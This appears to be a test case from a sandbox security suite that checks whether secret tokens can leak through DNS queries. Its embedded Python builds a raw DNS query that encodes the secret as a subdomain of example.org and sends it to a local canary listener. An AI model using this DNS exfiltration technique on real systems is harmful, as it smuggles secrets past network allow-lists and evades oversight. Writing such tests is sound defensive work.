import { setTimeout as sleep } from 'node:timers/promises'
import { datagramCanary } from '../support/canaries.ts'
import { commandCase } from '../support/command-scene.ts'

export const attack = commandCase({
  mechanism: 'network: DNS',
  gain: 'secrets as names, asked of a name server that passes them on',
  async attempt(scene) {
    const canary = await datagramCanary(scene, '127.0.0.53')
    await scene.run({
      line: await scene.python(ask, canary.host, canary.port, scene.token),
      network: { allowedHosts: ['example.org'] },
    })
    await sleep(50)
    return canary.heard.some((text) => text.includes(scene.token))
  },
})

const ask = `
import socket, struct, sys
name = b''.join(bytes([len(part)]) + part for part in [sys.argv[3].encode(), b'example', b'org']) + b'\\0'
query = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + name + struct.pack('>2H', 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (sys.argv[1], int(sys.argv[2])))
`
